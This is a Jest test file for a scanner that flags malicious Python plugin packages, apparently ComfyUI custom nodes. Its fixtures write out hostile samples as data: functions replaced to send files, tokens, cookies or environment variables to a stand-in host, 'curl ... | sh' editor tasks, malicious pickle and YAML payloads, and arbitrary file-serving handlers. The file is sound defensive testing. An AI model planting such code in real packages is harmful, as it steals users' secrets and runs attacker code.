import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { analyseFile, zipOf } from '../support/archives.js';

type Files = string | Record<string, string>;

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'registry-hooks-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Returns the most severe level of an archive's findings, which are sorted by level. */
async function levelOf(files: Files): Promise<string> {
  const path = join(folder, 'archive.zip');
  writeFileSync(path, await zipOf(typeof files === 'string' ? { '__init__.py': files } : files));
  return (await analyseFile(path)).findings[0]?.level ?? 'none';
}

const SEND = 'requests.post("https://e.example/a", json=item)';

/** A request handler with a body. */
const handler = (body: string): string =>
  `from aiohttp import web\nfrom server import PromptServer\n@PromptServer.instance.routes.get("/a")\nasync def f(request):\n    ${body}\n`;

describe('the checks hold', () => {
  it.each<[string, Files]>([
    [
      'a method of the host that is replaced to send data',
      `import requests, execution\ndef put(self, item): ${SEND}\nexecution.PromptQueue.put = put\n`,
    ],
    [
      'a function of a library that is replaced by name',
      `import requests, torch\ndef save(item): ${SEND}\nsetattr(torch, "save", save)\n`,
    ],
    [
      'a replaced function of a hub that sends its options elsewhere',
      'import huggingface_hub, requests\nold = huggingface_hub.hf_hub_download\ndef f(repo_id, filename, **options):\n    requests.get("https://e.example/?" + str(options))\n    return old(repo_id, filename, **options)\nhuggingface_hub.hf_hub_download = f\n',
    ],
    [
      'a replaced function of a hub that calls the original one with another server',
      'import huggingface_hub\nold = huggingface_hub.hf_hub_download\ndef f(repo_id, filename, **options):\n    return old(repo_id, filename, endpoint="https://e.example", **options)\nhuggingface_hub.hf_hub_download = f\n',
    ],
    [
      'a replaced function that gives data to a program',
      'import os, torch\ndef save(item): os.system("curl -F f=@%s https://e.example/" % item)\ntorch.save = save\n',
    ],
    [
      'a replaced loader that sends the file',
      'import requests, comfy.utils\ndef load(path): requests.post("https://e.example/", data=open(path, "rb"))\ncomfy.utils.load_torch_file = load\n',
    ],
    [
      'a replaced loader that sends the file in an address',
      'import requests, comfy.utils\ndef load(path): requests.get("https://e.example/" + open(path).read())\ncomfy.utils.load_torch_file = load\n',
    ],
    [
      'a replaced loader that gives a program the file',
      'import os, comfy.utils\ndef load(path): os.system("curl -F f=@%s https://e.example/" % path)\ncomfy.utils.load_torch_file = load\n',
    ],
    [
      'a handler of all workflows that sends them',
      `import requests, server\ndef f(item): ${SEND}\nserver.PromptServer.instance.add_on_prompt_handler(f)\n`,
    ],
    [
      'a middleware that sends what it sees',
      `import requests, server\nfrom aiohttp import web\n@web.middleware\nasync def f(item, handler):\n    ${SEND.replace('item)', 'dict(item.cookies))')}\nserver.PromptServer.instance.app.middlewares.append(f)\n`,
    ],
    ['a handler that serves any file', handler('return web.FileResponse(request.query["path"])')],
    ['a handler that reads any file', handler('return web.Response(body=open(request.query["path"], "rb").read())')],
    ['a handler that writes any file', handler('open((await request.json())["path"], "w").write("a")')],
    [
      'a middleware that runs what a request says',
      'import subprocess, server\nasync def f(request, handler):\n    return subprocess.getoutput(request.headers["a"])\nserver.PromptServer.instance.app.middlewares.append(f)\n',
    ],
    ['serving all files', 'from server import PromptServer\nPromptServer.instance.app.router.add_static("/a", "/")\n'],
    [
      'searching all files of the user',
      'class A:\n    def run(self):\n        import glob, os\n        return glob.glob(os.path.expanduser("~/**/*.env"), recursive=True)\n',
    ],
    [
      'the variables of a loop over the environment',
      'class A:\n    def run(self):\n        import os, requests\n        d = {}\n        for k in os.environ: d[k] = os.environ[k]\n        requests.post("https://e.example/", json=d)\n',
    ],
    [
      'a stored token that is sent elsewhere',
      'class A:\n    def run(self):\n        import huggingface_hub, requests\n        requests.get("https://e.example/?" + huggingface_hub.get_token())\n',
    ],
    ['a request of a client at import', 'import boto3\nboto3.client("s3").list_buckets()\n'],
    ['the clipboard at import', 'import pyperclip\npyperclip.copy("a")\n'],
    [
      'a script that is written and sends cookies',
      'class A:\n    def run(self):\n        open("web/a.js", "w").write("fetch(\'https://e.example/?\' + document.cookie)")\n',
    ],
    [
      'the next value of an enumeration',
      'import enum, os\nclass E(enum.Enum):\n    def _generate_next_value_(a, b, c, d): return os.system("a")\n    A = enum.auto()\n',
    ],
    ['a pickle that calls a function', { '__init__.py': '', 'a.pkl': "cposix\nsystem\n(S'a'\ntR." }],
    [
      'a pickle that calls a function, in the newer form',
      { '__init__.py': '', 'a.pickle': '\x80\x04\x8c\x0asubprocess\x94\x8c\x05Popen\x94\x93' },
    ],
    [
      'a task that an editor runs',
      {
        '__init__.py': '',
        '.vscode/tasks.json':
          '{"tasks": [{"command": "curl https://e.example/ | sh", "runOptions": {"runOn": "folderOpen"}}]}',
      },
    ],
    [
      'the key of one service that is sent to another',
      'class A:\n    def run(self, x):\n        import os, requests\n        requests.post("https://e.example/chat", headers={"a": os.environ.get("OPENAI_API_KEY")})\n',
    ],
    [
      'writing a source of the host which a file of the package is named like',
      {
        '__init__.py':
          'import nodes\ntext = open(nodes.__file__).read()\nopen(nodes.__file__, "w").write("a" + text)\n',
        'nodes.py': '',
      },
    ],
    ['ending the parent process', 'import os\nos.kill(os.getppid(), 9)\n'],
    ['ending other programs', 'import psutil\nfor p in psutil.process_iter():\n    p.kill()\n'],
    [
      'a hook of Git, by the parts of its path',
      'import os\nopen(os.path.join(os.path.dirname(__file__), ".git", "hooks", "post-merge"), "w").write("a")\n',
    ],
    ['a function by a pattern of attributes', 'import os\nmatch os:\n    case object(system=f):\n        f("a")\n'],
    ['an attribute of a module by a computed name', 'import os\nos.__getattribute__(os.sep.join(dir(os)))("a")\n'],
    ['code of another function', 'import os\ndef a(): pass\ndef b(): os.system("a")\na.__code__ = b.__code__\na()\n'],
    ['a property made by a call', 'import os\nclass A:\n    a = property(lambda self: os.system("a"))\nA().a\n'],
    [
      'a property of a class made by a call',
      'import os\nA = type("A", (), {"a": property(lambda self: os.system("a"))})\nA().a\n',
    ],
    [
      'compiling a source that starts programs',
      {
        '__init__.py': 'from torch.utils.cpp_extension import load\nload(name="a", sources=["a.cpp"])\n',
        'a.cpp': '#include <cstdlib>\nstatic int a = system("a");\n',
      },
    ],
    ['YAML that calls a function', { '__init__.py': '', 'a.yaml': 'a: !!python/object/apply:os.system ["a"]\n' }],
    [
      'YAML that calls a function, by another name of the tag',
      {
        '__init__.py': '',
        'a.yml': '%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:subprocess.run [a]\n',
      },
    ],
    [
      'a page with a script that sends cookies',
      {
        '__init__.py': '',
        'web/a.html': '<p>a</p>\n<script>fetch("https://e.example/?" + document.cookie)</script>\n',
      },
    ],
    [
      'settings of log handlers that are evaluated',
      { '__init__.py': '', 'a.ini': '[handler_a]\nclass=StreamHandler\nargs=(__import__("os").system("a"),)\n' },
    ],
  ])('%s', async (_what, files) => expect(await levelOf(files)).toBe('hold'));
});

describe('the checks do not hold', () => {
  it.each<[string, Files]>([
    [
      'a replaced method that changes its arguments',
      'import execution\nold = execution.PromptQueue.put\ndef put(self, item): return old(self, item)\nexecution.PromptQueue.put = put\n',
    ],
    [
      'a replaced method that asks for a list',
      'import requests, folder_paths\ndef f(name): return requests.get("https://e.example/list").json()\nfolder_paths.get_filename_list = f\n',
    ],
    [
      'a replaced function that downloads a missing file by its name',
      'import folder_paths, urllib.request\nold = folder_paths.get_full_path\ndef f(folder, name):\n    path = old(folder, name)\n    if path is None: urllib.request.urlretrieve("https://e.example/models/" + name, folder + name)\n    return path\nfolder_paths.get_full_path = f\n',
    ],
    [
      'a replaced method that downloads a missing file from a hub',
      'import nodes, os\nfrom huggingface_hub import hf_hub_download\ndef f(self, name):\n    if not os.path.exists(name): hf_hub_download("a/b", filename=name, local_dir="models")\nsetattr(nodes.LoraLoader, "load_lora", f)\n',
    ],
    [
      'a replaced function of a hub that calls the original one',
      'import huggingface_hub\nold = huggingface_hub.hf_hub_download\ndef f(repo_id, filename, **options):\n    return old(repo_id, filename, **options)\nhuggingface_hub.hf_hub_download = f\n',
    ],
    [
      'a replaced method that downloads to a path of the host',
      'import nodes, urllib.request\ndef f(self, path): urllib.request.urlretrieve("https://e.example/a", path)\nnodes.SaveImage.prepare = f\n',
    ],
    [
      'a handler of all workflows that logs',
      'import server\ndef f(item):\n    print(item)\n    return item\nserver.PromptServer.instance.add_on_prompt_handler(f)\n',
    ],
    [
      'a handler that serves a file of the package’s folder',
      handler('import os; return web.FileResponse(os.path.join(os.path.dirname(__file__), request.query["name"]))'),
    ],
    [
      'a handler that gives the ending of a file to another function',
      'import os\nfrom server import PromptServer\ndef save(path):\n    open(path, "w").write(json.dumps({}))\n@PromptServer.instance.routes.post("/a")\nasync def f(request): save((await request.json())["name"] + ".json")\n',
    ],
    [
      'a handler that serves a file of a table',
      `import collections\nfiles = collections.OrderedDict()\n${handler('path = files.get(request.query["token"])\n    return web.FileResponse(path)')}`,
    ],
    [
      'a handler that reads a file which the host finds',
      `import folder_paths\n${handler('path = folder_paths.get_full_path("loras", request.query["name"])\n    return open(path)')}`,
    ],
    [
      'a command with the path of a download',
      'class A:\n    def run(self, x):\n        import os, huggingface_hub\n        os.system("sed -i s/a/b/ {}/config.json".format(huggingface_hub.snapshot_download(x)))\n',
    ],
    [
      'a handler that calls a known program',
      'import subprocess\nfrom server import PromptServer\ndef run(command): subprocess.run(f"cd a && {command}", shell=True)\n@PromptServer.instance.routes.post("/a")\nasync def f(request): run("git clone " + (await request.json())["url"])\n',
    ],
    [
      'a handler that sends statuses to an address which it is given',
      'import json, os, requests, server\ndef send(url, item): requests.post(url, json=item)\ndef f(item):\n    send(item["status"], item)\n    send(os.environ.get("STATUS"), {})\n    send(json.load(open("a.json"))["url"], {})\nserver.PromptServer.instance.add_on_prompt_handler(f)\n',
    ],
    [
      'a handler that checks the path',
      handler(
        'path = request.query["path"]\n    if not path.startswith(ROOT): return None\n    return web.FileResponse(path)',
      ),
    ],
    [
      'ending a program that a node started',
      'class A:\n    def run(self, p):\n        import os\n        os.kill(p, 9)\n',
    ],
    [
      'compiling a source that computes',
      {
        '__init__.py': '',
        'a.py': 'from torch.utils.cpp_extension import load\nload(name="a", sources=["a.cpp"])\n',
        'a.cpp': 'int add(int a, int b) { return a + b; }\n',
      },
    ],
    [
      'a property of a class made by a call',
      'A = type("A", (), {"a": property(lambda self: "a".upper())})\nprint(A().a)\n',
    ],
    ['a client that is made at import', 'import boto3\nclient = boto3.client("s3")\n'],
    [
      'data that a package keeps for itself',
      'import os, shelve\nwith shelve.open(os.path.join(os.path.dirname(__file__), "a")) as data: pass\n',
    ],
    [
      'YAML with types of Python',
      {
        '__init__.py': '',
        'a.yaml':
          'size: !!python/tuple [1, 2]\nnamespace: !!python/object:argparse.Namespace {a: 1}\nname: os.system\n',
      },
    ],
    [
      'a page that links to other pages',
      {
        '__init__.py': '',
        'web/a.html': '<script src="https://e.example/a.js"></script><script>localStorage.a = 1;</script>',
      },
    ],
    [
      'the stored token for its service',
      'class A:\n    def run(self):\n        import huggingface_hub, requests\n        requests.get("https://huggingface.co/a", headers={"a": huggingface_hub.get_token()})\n',
    ],
    [
      'the key of a service for a compatible one',
      'class A:\n    def run(self, x):\n        import os, requests\n        requests.post("https://e.example/v1/chat/completions", headers={"a": os.environ.get("OPENAI_API_KEY")})\n',
    ],
    [
      'a module of the package by an absolute name',
      { '__init__.py': 'import helper\nhelper.run("a")\n', 'helper.py': 'def run(a): return a\n' },
    ],
    [
      'serving the package’s folder',
      'import os, server\nserver.app.router.add_static("/a", os.path.dirname(__file__))\n',
    ],
    ['a script that is written', 'open("web/a.js", "w").write("export const version = 1;")\n'],
    ['a pickle of data', { '__init__.py': '', 'a.pkl': 'ccollections\nOrderedDict\n(lp0\ntR.' }],
    [
      'a camera of a node',
      'class A:\n    def run(self):\n        import cv2, pyperclip\n        pyperclip.copy("a")\n        return cv2.VideoCapture(0).read()\n',
    ],
    [
      'a task of an editor',
      { '__init__.py': '', '.vscode/tasks.json': '{"tasks": [{"command": "npm run build", "type": "shell"}]}' },
    ],
    ['a file of settings', { '__init__.py': '', 'a.ini': '[a]\nrun = os.system\nargs=(sys.stdout,)\n' }],
  ])('%s', async (_what, files) => expect(await levelOf(files)).not.toBe('hold'));
});
